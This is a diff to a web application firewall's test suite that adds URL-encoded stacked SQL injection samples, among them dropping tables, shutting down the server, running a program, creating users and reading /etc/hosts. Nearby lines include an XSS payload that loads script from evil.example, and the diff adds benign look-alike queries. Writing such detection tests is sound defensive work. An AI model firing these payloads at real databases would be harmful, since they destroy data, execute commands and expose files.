@@ -1574,6 +1574,16 @@ describe("WAF", () => {
     ["/gw/open/search?q=%27%3Bimport(%27%2F%2Fevil.example%2Fx.js%27)%2F%2F", "xss-dom"],
     // HTTP parameter pollution: ASP.NET joins a repeated key's values with a comma.
     ["/gw/open/search?id=1+union%2F*&id=*%2Fselect+user%2Cpassword+from+users", "sqli-union"],
+    // SQL Server runs statements nothing but blanks separates; verbs the stacked rule lacked.
+    ["/gw/open/search?id=1+drop+table+users", "sqli-stacked"],
+    ["/gw/open/search?id=1+shutdown+with+nowait", "sqli-stacked"],
+    ["/gw/open/search?id=1+exec+master..xp_dirtree+%27%5C%5Ca%5Cx%27", "sqli-stacked"],
+    ["/gw/open/search?id=1+declare+%40q+varchar(99)+set+%40q%3D%27x%27+exec(%40q)", "sqli-stacked"],
+    ["/gw/open/search?id=1%3Bcopy+t+to+program+%27id%27", "sqli-stacked"],
+    ["/gw/open/search?id=1%3Bcreate+user+eve+with+password+%27x%27", "sqli-stacked"],
+    ["/gw/open/search?id=1%3Breplace+into+users+values(1%2C%27eve%27)", "sqli-stacked"],
+    ["/gw/open/search?id=1%3Bset+global+general_log%3D%27on%27", "sqli-stacked"],
+    ["/gw/open/search?id=1%3Bload+data+local+infile+%27%2Fetc%2Fhosts%27+into+table+t", "sqli-stacked"],
   ];
   const bodyAttacks = [
     ["application/x-www-form-urlencoded", "name=x&comment=%3Cscript%3Esteal()%3C%2Fscript%3E", "xss-script"],
@@ -1644,6 +1654,9 @@ describe("WAF", () => {
     "/gw/open/search?q=Meet+at+the+union+table+tennis+club",
     "/gw/open/search?q=Write+the+prompt(s)+first%2C+then+confirm(yes%2Fno)",
     "/gw/open/search?tag=union&tag=select&tag=rock",
+    "/gw/open/search?q=3+drop+shots+and+a+table",
+    "/gw/open/search?q=Thanks%3B+create+user+stories+for+the+sprint",
+    "/gw/open/search?q=Step+2%3B+copy+the+program+to+a+USB+stick",
   ];
   const benignBodies = [
     // The third payload review: a list's entry, a title, a mail's line starting with a script scheme's name.
